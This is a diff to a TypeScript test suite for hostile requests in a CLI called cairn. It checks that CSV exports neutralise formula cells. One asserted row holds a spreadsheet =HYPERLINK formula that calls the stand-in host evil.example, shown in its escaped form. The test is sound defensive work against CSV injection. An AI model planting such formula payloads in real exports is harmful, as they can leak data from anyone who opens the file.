@@ -503,6 +503,14 @@ describe('hostile and malformed requests', () => {
       assert.equal(user.account_id, '', 'the user is in no account');
     });
 
+    // Formula cells are data in the store and text in every CSV export.
+    const formula = cases.find((c) => c.name.startsWith('formula cells in a group call'))!.m;
+    const csv = await cairn(['milestones', '--format', 'csv', '-w', ws]);
+    assert.equal(csv.code, 0, csv.stderr);
+    const row = csv.stdout.split('\n').find((l) => l.includes(formula))!;
+    assert.ok(row.startsWith(`"'=HYPERLINK(""http://evil.example/${formula}"",""x"")"`), row);
+    assert.ok(row.includes(`,"'+pro",`), row);
+
     // The CLI reads the same quarantine, by reason.
     const listed = await cairn(['quarantine', 'list', '--json', '--limit', '1', '-w', ws]);
     assert.equal(listed.code, 0, listed.stderr);
